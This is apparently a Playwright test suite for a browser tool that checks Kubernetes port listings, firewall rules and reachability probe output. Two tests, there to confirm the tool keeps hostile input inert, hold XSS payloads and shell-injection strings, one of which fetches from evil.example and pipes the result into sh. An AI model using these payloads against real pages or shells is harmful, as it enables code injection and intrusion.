import { readFileSync } from 'node:fs';
import { expect, test, type Page } from './fixtures.ts';
import { model } from '../../src/domain/data.ts';
import { createChecker, type Report } from '../../src/checker/index.ts';
import { mustIp } from '../../src/domain/net.ts';

const checker = createChecker(model);
const fixture = (p: string) => readFileSync(new URL(`../fixtures/${p}`, import.meta.url), 'utf8');
const dqliteRelease = model.releases.filter((r) => r.datastores.includes('k8s-dqlite')).at(-1)!.id;

async function paste(page: Page, text: string) {
  await page.locator('#input').fill(text);
  await expect(page.locator('#results h2')).toBeVisible();
}

test('pasting ss output shows the same verdicts as the library, per line', async ({ page }) => {
  const text = fixture('own/ss-tlnp-ck8s-worker.txt');
  await page.goto('/check/');
  await page.selectOption('select[name=release]', dqliteRelease);
  await page.selectOption('select[name=datastore]', 'k8s-dqlite');
  await paste(page, text);
  const expected = await checker.check(
    text,
    model.node({ release: dqliteRelease, datastore: 'k8s-dqlite', role: 'control-plane' }),
  );
  const rows = page.locator('#findings tbody tr');
  await expect(rows).toHaveCount(expected.findings.length);
  for (const [i, f] of expected.findings.entries()) {
    await expect(rows.nth(i).locator('td').nth(0)).toHaveText(String(f.line));
    await expect(rows.nth(i).locator('td').nth(2)).toHaveText(
      f.verdict === 'possible-conflict' ? 'possible conflict' : f.verdict,
    );
  }
  await expect(page.locator('.summary')).toContainText(`${expected.summary.conflict} conflict`);
  await expect(page.locator('#unrecognized li')).toHaveCount(expected.unrecognized.length);
});

test('options change the verdict: role worker makes a control-plane-only port fine', async ({
  page,
}) => {
  const cpOnly = checker
    .targets(model.node({ role: 'control-plane' }))
    .find((t) => !checker.targets(model.node({ role: 'worker' })).some((w) => w.port === t.port))!;
  await page.goto('/check/');
  await paste(page, `0.0.0.0:${cpOnly.port}/${cpOnly.protocol}`);
  await expect(page.locator('#findings tbody td:nth-child(3)')).toHaveText('conflict');
  await page.selectOption('select[name=role]', 'worker');
  await expect(page.locator('#findings tbody td:nth-child(3)')).toHaveText('ok');
  await expect(page).toHaveURL(/role=worker/);
});

test('the release decides which options are offered', async ({ page }) => {
  await page.goto('/check/');
  const latest = model.latest;
  await expect(page.locator('select[name=release]')).toHaveValue(latest.id);
  if (latest.datastores.length < 2)
    await expect(page.locator('select[name=datastore]')).toBeDisabled();
  await page.selectOption('select[name=release]', dqliteRelease);
  await expect(page.locator('select[name=datastore]')).toBeEnabled();
});

test('a runbook link with #ports=…&role=… runs at once, and the share link round-trips', async ({
  page,
  context,
}) => {
  await page.goto('/check/#ports=9000,10250&role=worker');
  await expect(page.locator('#input')).toHaveValue('9000\n10250');
  await expect(page.locator('select[name=role]')).toHaveValue('worker');
  await expect(page.locator('#findings tbody tr')).toHaveCount(2);
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.locator('#input').fill('127.0.0.1:10248\n[::]:6443');
  await page.selectOption('select[name=release]', dqliteRelease);
  await expect(page).toHaveURL(new RegExp(`release=${dqliteRelease.replace('.', '\\.')}`));
  await page.getByRole('button', { name: 'Copy share link' }).click();
  // The copy is asynchronous: wait for the clipboard to hold the link.
  await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toContain('#');
  const link = await page.evaluate(() => navigator.clipboard.readText());
  const other = await context.newPage();
  await other.goto(link);
  await expect(other.locator('#input')).toHaveValue('127.0.0.1:10248\n[::]:6443');
  await expect(other.locator('select[name=release]')).toHaveValue(dqliteRelease);
  await expect(other.locator('select[name=role]')).toHaveValue('worker');
  await expect(other.locator('#findings tbody tr')).toHaveCount(2);
});

test('copy as Markdown and download JSON carry the report', async ({ page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.goto('/check/#ports=6443');
  await expect(page.locator('#findings tbody tr')).toHaveCount(1);
  await page.getByRole('button', { name: 'Copy as Markdown' }).click();
  // The copy is asynchronous: wait for the clipboard to hold the table.
  await expect
    .poll(() => page.evaluate(() => navigator.clipboard.readText()))
    .toContain('| Line | Port |');
  const md = await page.evaluate(() => navigator.clipboard.readText());
  expect(md).toContain('6443/tcp');
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Download JSON' }).click(),
  ]);
  const json = JSON.parse(readFileSync(await download.path(), 'utf8')) as Report;
  expect(json.findings[0]?.port).toBe(6443);
  expect(json.findings[0]?.verdict).toBe('conflict');
});

test('pasted HTML and script payloads stay text: nothing runs, no element is created', async ({
  page,
}) => {
  const payloads = [
    '<img src=x onerror="window.__pwned=1">',
    '<script>window.__pwned=2</script>',
    '"><svg onload=window.__pwned=3>:9000',
    'javascript:alert(1)//:6443',
    '<a href="javascript:window.__pwned=4">x</a> 10250',
  ];
  await page.goto('/check/');
  const before = await page.evaluate(
    () => document.querySelectorAll('img, script, svg, iframe').length,
  );
  await paste(page, payloads.join('\n'));
  await expect(page.locator('#unrecognized li').first()).toBeVisible();
  expect(
    await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned),
  ).toBeUndefined();
  expect(
    await page.evaluate(() => document.querySelectorAll('img, script, svg, iframe').length),
  ).toBe(before);
  await expect(page.locator('#results')).toContainText('<script>window.__pwned=2</script>');
  await expect(page.locator('#results a[href^="javascript:"]')).toHaveCount(0);
});

test('an oversized file is refused with a clear message', async ({ page }) => {
  await page.goto('/check/');
  await page.setInputFiles('#file', {
    name: 'huge.txt',
    mimeType: 'text/plain',
    buffer: Buffer.alloc(17 * 1024 * 1024, '1\n'),
  });
  // Exact sizes: a file 10 bytes over once read "16.0 MB; the limit is 16 MB".
  await expect(page.locator('#results .error')).toContainText(
    '17,825,792 bytes; the limit is 16,777,216 (16 MiB)',
  );
});

test('a file can be opened instead of pasted', async ({ page }) => {
  await page.goto('/check/');
  await page.setInputFiles('#file', {
    name: 'ufw.txt',
    mimeType: 'text/plain',
    buffer: Buffer.from(fixture('own/ufw-status-numbered.txt')),
  });
  await expect(page.locator('#results')).toContainText('Firewall coverage');
  await expect(page.locator('#results')).toContainText('Read as ufw');
});

test('keyboard: the form is reachable and usable without a mouse', async ({ page }) => {
  await page.goto('/check/');
  await page.locator('#input').focus();
  await page.keyboard.type('9000');
  await expect(page.locator('#findings tbody tr')).toHaveCount(1);
  await page.keyboard.press('Tab');
  await expect(page.locator('#file')).toBeFocused();
  await page.keyboard.press('Tab');
  await expect(page.locator('select[name=mode]')).toBeFocused();
});

test('without JavaScript the page explains the command-line checker', async ({ browser }) => {
  const context = await browser.newContext({ javaScriptEnabled: false });
  const page = await context.newPage();
  await page.goto('/check/');
  await expect(page.locator('#cli')).toContainText('check-ports.mjs');
  await expect(page.locator('#checker')).toBeHidden();
  await context.close();
});

test('audit mode reports a node against the reference', async ({ page }) => {
  const text = fixture('samples/08-ss-ltpn-kubeadm-controller-ubuntu2404.txt');
  await page.goto('/check/#mode=audit&kpr=off');
  await expect(page.locator('select[name=mode]')).toHaveValue('audit');
  await page.locator('#input').fill(text);
  await expect(page.locator('#results h2')).toContainText('Node audit');
  await expect(page.locator('#audit-wider li')).toHaveCount(1);
  await expect(page.locator('#audit-wider')).toContainText('10256');
  await expect(page.locator('#audit-missing')).toContainText('snap.k8s.k8sd');
  await page.selectOption('select[name=role]', 'both');
  await expect(page.locator('#results .error')).toHaveText(
    'Role both: this describes one node; choose control-plane or worker',
  );
});

test('a large paste shows the first 2,000 rows, counts them all, and the JSON has every row', async ({
  page,
}) => {
  const lines = Array.from({ length: 3000 }, (_, i) => String(20000 + i));
  await page.goto('/check/');
  // One paste, as a user does it (Playwright's fill inserts a many-line text slowly).
  await page.evaluate((text) => {
    const box = document.querySelector<HTMLTextAreaElement>('#input')!;
    box.value = text;
    box.dispatchEvent(new Event('input', { bubbles: true }));
  }, lines.join('\n'));
  await expect(page.locator('#findings tbody tr')).toHaveCount(2000);
  await expect(page.locator('#results')).toContainText('Showing the first 2000 of 3000 rows');
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Download JSON' }).click(),
  ]);
  expect((JSON.parse(readFileSync(await download.path(), 'utf8')) as Report).findings).toHaveLength(
    3000,
  );
});

/** Drops a file with these bytes on the paste box, as a person drags one from a file manager. */
async function dropFile(page: Page, name: string, bytes: Buffer) {
  await page.locator('#input').evaluate(
    (box, { name, data }) => {
      const transfer = new DataTransfer();
      transfer.items.add(new File([new Uint8Array(data)], name, { type: 'text/plain' }));
      box.dispatchEvent(
        new DragEvent('drop', { dataTransfer: transfer, bubbles: true, cancelable: true }),
      );
    },
    { name, data: [...bytes] },
  );
}

test('a UTF-16 capture from Windows, dropped on the box, is read and shows its conflict', async ({
  page,
}) => {
  await page.goto('/check/');
  await page.selectOption('select[name=role]', 'worker');
  const capture = readFileSync(new URL('../fixtures/own/ss-tulpn-utf16le.txt', import.meta.url));
  await dropFile(page, 'ss.txt', capture);
  await expect(page.locator('#input')).toHaveValue(/0\.0\.0\.0:10250/);
  await expect(page.locator('#results')).toContainText('Read as ss');
  await expect(
    page.locator('#results tr').filter({ hasText: '10250/tcp' }).filter({ hasText: 'conflict' }),
  ).not.toHaveCount(0);
});

test('a binary file dropped on the box is refused with one message', async ({ page }) => {
  await page.goto('/check/');
  const bytes = Buffer.alloc(2048);
  for (let i = 0; i < bytes.length; i++) bytes[i] = (i * 7919) % 256;
  await dropFile(page, 'core.bin', bytes);
  await expect(page.locator('#results .error')).toHaveText(/core\.bin: This is binary data/);
  await expect(page.locator('#input')).toHaveValue('');
});

test('a firewall script is read as rules: covers, the firewall summary, and no conflict', async ({
  page,
}) => {
  const text = fixture('own/iptables-commands.sh');
  const report = await checker.check(text, model.node());
  await page.goto('/check/');
  await paste(page, text);
  await expect(page.locator('#results')).toContainText('Read as Firewall commands');
  await expect(page.locator('#results')).toContainText('Firewall coverage');
  await expect(page.locator('#results td').filter({ hasText: /^conflict$/ })).toHaveCount(0);
  expect(report.summary.conflict).toBe(0);
  for (const f of report.findings)
    await expect(
      page
        .locator('#results tr')
        .filter({ hasText: `${f.port}/${f.protocol}` })
        .first(),
    ).toContainText(f.verdict === 'covers' ? 'covers' : 'ok');
});

test('firewalld services in a paste load the package catalog and resolve to ports', async ({
  page,
}) => {
  const requests: string[] = [];
  page.on('request', (r) => requests.push(new URL(r.url()).pathname));
  await page.goto('/check/');
  await paste(page, 'ss -tulpn output is not here\n0.0.0.0:22');
  expect(requests.some((p) => p.includes('ck8s-firewalld'))).toBe(false);
  await paste(page, 'sudo firewall-cmd --permanent --add-service=kube-apiserver');
  await expect(
    page.locator('#results tr').filter({ hasText: '6443/tcp' }).filter({ hasText: 'covers' }),
  ).toHaveCount(1);
  expect(requests.some((p) => p.includes('ck8s-firewalld'))).toBe(true);
});

test('a conflict names the likely owner and its remedy', async ({ page }) => {
  const line = 'tcp LISTEN 0 4096 *:10250 *:* users:(("k3s-server",pid=1580,fd=170))';
  const [f] = (await checker.check(line, model.node())).findings;
  await page.goto('/check/');
  await paste(page, line);
  await expect(page.locator('#results')).toContainText(`Likely ${f!.owner!.name}`);
  await expect(page.locator('#results')).toContainText(f!.owner!.remedy);
});

test('probe output pasted into the checker: each path with its verdict, and the rule to add', async ({
  page,
}) => {
  const { readReach } = await import('../../src/firewall/reach-read.ts');
  const output = [
    'ck8s-reach v1 from=worker src=10.0.0.20 to=10.0.0.10 role=control-plane proto=tcp port=6443 result=open ms=2 service=kube-apiserver',
    'ck8s-reach v1 from=worker src=10.0.0.20 to=10.0.0.10 role=control-plane proto=tcp port=10250 result=timeout ms=3001 service=kubelet',
  ].join('\n');
  await page.goto('/check/');
  await page.selectOption('select[name=tool]', 'firewalld');
  await page.locator('#input').fill(output);
  await expect(page.locator('#results h2')).toHaveText('Reachability');
  const blocked = readReach(model, output, 'firewalld').findings.find(
    (f) => f.verdict === 'blocked',
  )!;
  await expect(page.locator('#reach-problems li.v-blocked')).toContainText(blocked.rule!);
  await expect(page.locator('#reach-pairs tbody tr')).toHaveCount(1);
  // The tool is part of the shared link: a reload keeps it, and the rule with it.
  await expect(page).toHaveURL(/tool=firewalld/);
  await page.reload();
  await expect(page.locator('select[name=tool]')).toHaveValue('firewalld');
  await expect(page.locator('#reach-problems li.v-blocked')).toContainText(blocked.rule!);
});

test('/reach/ regenerates the probe for the options and offers it', async ({ page }) => {
  const { reachScript } = await import('../../src/firewall/reach.ts');
  expect((await page.request.get('/downloads/ck8s-reach.sh')).status()).toBe(200);
  await page.goto('/reach/');
  await page.selectOption('#reach-form select[name=role]', 'worker');
  await page.fill('#reach-form input[name=cp]', '192.0.2.10');
  await page.fill('#reach-form input[name=workers]', '192.0.2.20');
  await expect(page.locator('#reach-script')).toHaveText(
    reachScript(model, {
      role: 'worker',
      controlPlaneIps: [mustIp('192.0.2.10')],
      workerIps: [mustIp('192.0.2.20')],
    }).trimEnd(),
  );
  await expect(page).toHaveURL(/cp=192\.0\.2\.10/);
});

test('a hostile share link with probe output shows no command carrying its payload', async ({
  page,
}) => {
  const { encodeFragment } = await import('../../src/checker/share.ts');
  const line = (src: string) =>
    `ck8s-reach v1 from=worker src=${src} to=10.0.0.10 role=control-plane proto=tcp port=10250 result=timeout ms=3001 service=kubelet`;
  const payloads = ["x'$(touch${IFS}pwned)'", '10.0.0.20;curl${IFS}evil.example|sh;#'];
  for (const tool of ['firewalld', 'ufw', 'nftables', 'iptables'] as const) {
    const input = [...payloads.map(line), line('10.0.0.20')].join('\n');
    await page.goto('about:blank'); // a fresh load each time, as a link opened from a chat is
    await page.goto(`/check/${encodeFragment({ input, node: {}, tool })}`);
    await expect(page.locator('#results h2')).toHaveText('Reachability');
    // The one valid line gets its rule; the hostile ones are listed as unrecognised, with no rule.
    await expect(page.locator('#reach-problems li.v-blocked')).toHaveCount(1);
    await expect(page.locator('#reach-problems li.v-blocked')).toContainText('10.0.0.20');
    await expect(page.locator('#results')).toContainText('src=: ');
    await expect(page.locator('#results')).toContainText('no rule offered');
    for (const code of await page.locator('#results pre code').allTextContents())
      expect(code, tool).not.toMatch(/touch|curl|pwned|evil|\$\(|;/);
  }
});

test('a mixed paste lists its blocks first, each read in its own format', async ({ page }) => {
  const text = fixture('own/forum-sysctl-netstat.txt');
  await page.goto('/check/');
  await paste(page, text);
  const expected = await checker.check(text, model.node({ role: 'control-plane' }));
  const blocks = page.locator('#blocks');
  await expect(blocks).toHaveText(
    '4 blocks: prose (lines 1–4), sysctl (5–6), prose (8), netstat (9–12)',
  );
  // The blocks line comes before the findings, and the table holds the netstat row and the range.
  const order = await page.evaluate(() => {
    const b = document.querySelector('#blocks')!;
    const f = document.querySelector('#findings')!;
    return b.compareDocumentPosition(f) & Node.DOCUMENT_POSITION_FOLLOWING;
  });
  expect(order).toBeTruthy();
  await expect(page.locator('#findings tbody tr')).toHaveCount(expected.findings.length);
  await expect(page.locator('#findings tbody tr', { hasText: '10250' }).first()).toBeVisible();
});
